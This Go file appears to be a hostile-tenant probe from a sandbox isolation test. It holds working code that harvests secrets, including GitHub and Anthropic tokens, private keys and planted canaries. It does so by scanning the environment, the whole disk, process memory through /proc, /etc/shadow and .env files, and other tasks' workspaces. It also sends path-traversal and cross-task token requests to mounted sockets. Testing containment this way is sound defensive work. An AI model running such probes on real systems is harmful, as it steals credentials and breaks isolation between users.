package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"time"

	"sam/sandbox/hostile/orders"
)

// secret is what keys and tokens look like: GitHub's, Anthropic's, a node's credential, a private key, and what was planted to
// be found.
var secret = regexp.MustCompile(`\bgh[opsur]_[A-Za-z0-9]{16,}|sk-ant-[A-Za-z0-9-]{8,}|local\.[A-Za-z0-9_-]{43}|-----BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+/]{40}|canary-[a-z]+-[A-Za-z0-9]{8,}`)

// sack collects what was found.
type sack struct {
	own   string
	loot  []string
	found bool // own
	read  int
}

func (s *sack) look(data []byte) {
	s.read++
	s.found = s.found || s.own != "" && bytes.Contains(data, []byte(s.own))
	for _, one := range secret.FindAllString(string(data), 20) {
		if one != s.own && !slices.Contains(s.loot, one) && len(s.loot) < 40 {
			s.loot = append(s.loot, one)
		}
	}
}

func (s *sack) report() orders.Report {
	r := tried("looked at %d", s.read)
	r.Loot, r.Own = s.loot, s.found
	return r
}

func (i *intruder) environment() orders.Report {
	s := &sack{own: i.token()}
	s.look([]byte(strings.Join(os.Environ(), "\n")))
	return s.report()
}

// token is the task's own, which it is given.
func (i *intruder) token() string { return os.Getenv("ANTHROPIC_API_KEY") }

// disk reads every file that can be read.
func (i *intruder) disk() orders.Report {
	s := &sack{own: i.Own}
	deadline := time.Now().Add(20 * time.Second)
	_ = filepath.WalkDir("/", func(path string, entry fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return nil //nolint:nilerr // what cannot be read holds nothing for it
		case time.Now().After(deadline):
			return fs.SkipAll
		case entry.IsDir() && slices.Contains([]string{"/proc", "/sys", "/usr", "/opt/sam", "/var/cache/go-build", "/lib", "/bin", "/sbin"}, path):
			return fs.SkipDir
		case !entry.Type().IsRegular():
			return nil
		}
		if data, err := head(path, 1<<20); err == nil {
			s.look(data)
		}
		return nil
	})
	return s.report()
}

func head(path string, n int64) ([]byte, error) {
	file, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer file.Close()
	return io.ReadAll(io.LimitReader(file, n))
}

// processes reads what there is of every process: its arguments, environment and memory. The shim's is among them.
func (i *intruder) processes() orders.Report {
	s := &sack{own: i.token()}
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return unable("%v", err)
	}
	var pids []string
	memories := 0
	for _, entry := range entries {
		pid, err := strconv.Atoi(entry.Name())
		if err != nil {
			continue
		}
		pids = append(pids, entry.Name())
		dir := filepath.Join("/proc", entry.Name())
		for _, name := range []string{"cmdline", "environ", "mountinfo"} {
			if data, err := head(filepath.Join(dir, name), 1<<20); err == nil {
				s.look(data)
			}
		}
		if pid != os.Getpid() && memory(dir, s) {
			memories++
		}
		for _, way := range []string{"root/etc/shadow", "cwd/.env"} {
			if data, err := head(filepath.Join(dir, way), 1<<20); err == nil {
				s.look(data)
			}
		}
	}
	r := s.report()
	r.Said = fmt.Sprintf("processes %s, memory of %d", strings.Join(pids, " "), memories)
	return r
}

// memory looks through a process's memory and reports whether it could be opened.
func memory(dir string, s *sack) bool {
	maps, err := os.ReadFile(filepath.Join(dir, "maps"))
	if err != nil {
		return false
	}
	mem, err := os.Open(filepath.Join(dir, "mem"))
	if err != nil {
		return false
	}
	defer mem.Close()
	left := int64(256 << 20)
	for _, line := range strings.Split(string(maps), "\n") {
		from, to, ok := strings.Cut(strings.SplitN(line, " ", 2)[0], "-")
		begin, err1 := strconv.ParseInt(from, 16, 64)
		end, err2 := strconv.ParseInt(to, 16, 64)
		if !ok || err1 != nil || err2 != nil || !strings.Contains(line, " rw") || end-begin > left {
			continue
		}
		left -= end - begin
		data := make([]byte, end-begin)
		n, _ := mem.ReadAt(data, begin)
		s.look(data[:n])
	}
	return true
}

// shim asks the sockets that are mounted for more than they are for.
func (i *intruder) shim() orders.Report {
	s := &sack{own: "no such"}
	var answers []string
	for _, socket := range []string{"/run/sam/shim/shim.sock", "/run/sam/node/node.sock"} {
		client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
			DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
				return (&net.Dialer{}).DialContext(ctx, "unix", socket)
			},
		}}
		for _, ask := range [][2]string{
			{"GET", "/v1/health"}, {"GET", "/v1/programs"}, {"POST", "/node/v1/fetch-token"}, {"GET", "/node/v1/link"}, {"GET", "/metrics"},
			{"GET", "/debug/pprof/cmdline"}, {"GET", "/git/" + i.Other + "/info/refs?service=git-receive-pack"}, {"POST", "/model/" + i.Other + "/anthropic/v1/messages"},
			{"GET", "/v1/programs/../../../etc/passwd/output?from=0"},
		} {
			body, _ := json.Marshal(map[string]any{"task": i.Other, "epoch": 1})
			request, err := http.NewRequest(ask[0], "http://node"+ask[1], bytes.NewReader(body)) //nolint:noctx // the client has a time limit
			if err != nil {
				return unable("%v", err)
			}
			request.Header.Set("Authorization", "Bearer "+i.token())
			request.Header.Set("Sam-Task-Token", i.token())
			response, err := client.Do(request)
			if err != nil {
				answers = append(answers, ask[1]+": "+err.Error())
				continue
			}
			said, _ := io.ReadAll(io.LimitReader(response.Body, 64<<10))
			response.Body.Close()
			s.look(said)
			answers = append(answers, fmt.Sprintf("%s: %d", ask[1], response.StatusCode))
		}
	}
	r := s.report()
	r.Said = strings.Join(answers, "; ")
	return r
}

// workspaces looks for those of other tasks: beside what is mounted, and by the paths that the node has.
func (i *intruder) workspaces() orders.Report {
	s := &sack{own: i.Own}
	node := i.Targets["node"] // its folder, as the host has it
	alternates, err := os.ReadFile("/workspace/.git/objects/info/alternates")
	if err != nil {
		return unable("%v", err)
	}
	roots := []string{
		"/workspace/..", "/home", "/run", node, filepath.Dir(filepath.Dir(strings.TrimSpace(string(alternates)))),
		"/proc/1/root" + node, "/proc/1/cwd", "/workspace",
	}
	for _, root := range roots {
		files := 0
		_ = filepath.WalkDir(root, func(path string, entry fs.DirEntry, err error) error {
			if files++; files > 20_000 {
				return fs.SkipAll
			}
			if err == nil && entry.Type().IsRegular() {
				if data, err := head(path, 64<<10); err == nil {
					s.look(data)
				}
			}
			if err == nil && entry.IsDir() && (path == "/proc" || path == "/sys" || path == "/usr") {
				return fs.SkipDir
			}
			return nil
		})
	}
	r := s.report()
	r.Said += " in " + strings.Join(roots, " ")
	return r
}
